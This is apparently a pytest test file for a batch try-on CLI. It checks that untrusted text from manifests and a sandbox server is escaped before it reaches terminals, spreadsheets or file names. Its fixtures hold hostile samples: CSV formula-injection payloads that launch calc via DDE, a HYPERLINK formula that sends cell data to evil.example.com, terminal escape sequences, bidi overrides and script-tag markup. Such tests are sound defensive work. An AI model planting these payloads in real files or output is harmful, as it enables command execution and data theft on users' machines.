"""Texts from outside that want to be more than text: in a spreadsheet, on a terminal, in a file's name (E1-E3, N1).

They come from the manifest (ids, columns, cells, names of pictures and folders) and from the server (names and
messages of errors, words of status), and are followed to every command and every file.
"""

from __future__ import annotations

import csv
import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from PIL import Image
from typer.testing import CliRunner, Result

from batchtryon.cli.main import app
from batchtryon.cli.wording import safe
from batchtryon.report.results import harmless
from batchtryon.sandbox.fault_file import parse_faults
from batchtryon.sandbox.server import SandboxServer
from batchtryon.sandbox.world import World

#: All that a terminal obeys or that turns a line around, and a link.
CONTROLS = [chr(code) for code in (
    *range(1, 32), *range(127, 160), 0x061C, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070),
    0xFEFF, *range(0xFFF9, 0xFFFC), 0xE0001, 0xE0041, 0x1D173,
)]
LINK = "\x1b]8;;https://evil.example.com\x1b\\click\x1b]8;;\x1b\\\x9b31m\x07"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
OBEYED = re.compile("[" + "".join(re.escape(each) for each in CONTROLS if each != "\n") + "]")
FLAGS = (
    "--rate", "20/0.3", "--poll-rate", "300/0.3", "--settle", "0.5s", "--on-unknown", "hold",
    "--max-attempts", "1",
)
HOSTILE = LINK + "\u202e" + "".join(each for each in CONTROLS) + MARKUP
FORMULAS = [
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1",
    "\uff0d1", "\uff20x", '=HYPERLINK("http://evil.example.com?x="&A1)', "=cmd|' /C calc'!A0", "-1+1", "=", "@", "+",
    "=1\n=2",
]


@pytest.fixture
def shop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder whose names are hostile too."""
    folder = tmp_path / "shop\x1b[31m"
    folder.mkdir()
    for number, name in enumerate(("person\u202e.png", "shirt\x9b2J.png")):
        Image.new("RGB", (60, 90), (number * 99, 80, 120)).save(folder / name)
    columns = ["id", "person", "garment", "seed", "=title", f"note{LINK}", "@x"]
    lines = []
    for number, formula in enumerate(FORMULAS):
        row_id = f"{formula}#{number}" if formula.isprintable() else f"id\u202e{number}"
        lines.append([row_id, "person\u202e.png", "shirt\x9b2J.png", str(number), formula, HOSTILE, MARKUP])
    with (folder / "night.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([columns, *lines])
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def call(tmp_path: Path) -> Iterator[Callable[..., Result]]:
    """Runs commands against a server whose every word is hostile."""
    faults = json.dumps([
        {"call": "submit", "fault": "BadRequest", "at": 1, "message": HOSTILE},
        {"call": "submit", "fault": "job-fails", "at": 2, "name": f"Pose{LINK}", "message": f"=1+1 {HOSTILE}"},
        {"call": "submit", "fault": "job-fails", "at": 3, "name": "=cmd", "message": "@SUM(1)"},
        {"call": "submit", "fault": "lost-answer", "at": 4},
        {"call": "status", "fault": "strange-status", "every": 3, "times": 3, "word": f"dream{HOSTILE}"[:80]},
    ])
    world = World(monotonic=time.monotonic, speed=200.0)
    with SandboxServer(world, plan=parse_faults(faults)) as server:
        env = {"TRYITON_BASE_URL": server.base_url, "TRYITON_API_KEY": server.key,
               "XDG_STATE_HOME": str(tmp_path / "state"), "XDG_CONFIG_HOME": str(tmp_path / "config")}
        yield lambda *args: CliRunner().invoke(app, args, env=env)


def test_e3_no_text_from_outside_is_obeyed_by_a_terminal(shop: Path, call: Callable[..., Result]) -> None:
    told = [call("plan", "night.csv", "-v"), call("run", "night.csv", "--yes", "-v", *FLAGS)]
    assert told[-1].exit_code == 13, told[-1].output
    told += [call(*args) for args in (
        ("status",), ("status", "--json"), ("failures",), ("failures", "--json"), ("explain", "=1+1#0"),
        ("explain", "=1+1#0", "--json"), ("explain", LINK), ("explain", f"night:{HOSTILE}"),
        ("retry", "--where", f"@x={LINK}"), ("retry", "--where", LINK), ("retry", "--id", LINK),
        ("plan", "night.csv", "--order-by", LINK), ("plan", f"{LINK}.csv"), ("plan", "night.csv", "--name", LINK),
        ("plan", "night.csv", "--rate", LINK), ("run", "night.csv", "--yes", "--json", *FLAGS),
        ("export", "night", "--format", "csv", "--out", "all.csv"),
        ("export", "night", "--format", "jsonl", "--out", "all\x1b[31m.jsonl"),
        ("export", LINK, "--format", "csv", "--out", "x.csv"), ("doctor",), ("doctor", "--json"), ("status", LINK),
        ("nonsense\x1b[31m",),
    )]
    for answer in told:
        found = OBEYED.search(answer.output)
        assert found is None, (hex(ord(found[0])), answer.output)
        assert "unexpected error" not in answer.output
        assert answer.exit_code != 1, answer.output

    table: list[list[str]] = []
    for name in ("all.csv", "output/night/results.csv"):
        with (shop / name).open(encoding="utf-8", newline="") as file:
            table = list(csv.reader(file))
        assert len(table) > 10
        for cell in (cell for line in table for cell in line):
            assert not re.match("[=+@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell), cell
            assert not cell.startswith("-") or float(cell)
    # What the server says is one clean line already where it comes in.
    messages = [line[table[0].index("tryon_message")] for line in table[1:]]
    assert sum(MARKUP[:8] in message for message in messages) == 2
    assert not any(OBEYED.search(message) for message in messages)
    # Escaped by JSON: a program gets the very text back, a terminal nothing to obey.
    lines = (shop / "all\x1b[31m.jsonl").read_text(encoding="utf-8")
    assert not OBEYED.search(lines)
    notes = {json.loads(line)[f"note{LINK}"] for line in lines.split("\n")[:-1]}
    assert notes == {HOSTILE}
    written = [path.name for path in (shop / "output").rglob("*")]
    assert not any(OBEYED.search(name) or set(name) & set('/\\:*?"<>|') for name in written)


@pytest.mark.parametrize("control", CONTROLS, ids=[f"U+{ord(each):04X}" for each in CONTROLS])
def test_e3_each_control_character_is_shown_and_not_obeyed(control: str) -> None:
    told = safe(f"a{control}b")
    assert control not in told
    assert told.startswith("a\\")
    assert told.isprintable()


@pytest.mark.parametrize("formula", FORMULAS)
def test_e1_no_cell_begins_what_a_spreadsheet_runs(formula: str) -> None:
    assert harmless(formula) == f"'{formula}"


def test_e2_markup_stays_text_in_every_format(shop: Path, call: Callable[..., Result]) -> None:
    call("run", "night.csv", "--yes", "--quiet", *FLAGS)
    call("export", "night", "--format", "jsonl", "--out", "all.jsonl")
    rows = [json.loads(line) for line in (shop / "all.jsonl").read_bytes().split(b"\n")[:-1]]
    assert {row["@x"] for row in rows} == {MARKUP}
    # Nothing of ours is a page that a browser would take it for.
    for path in (shop / "output").rglob("*"):
        assert path.suffix not in {".html", ".htm", ".svg", ".xml"} or MARKUP.encode() not in path.read_bytes()
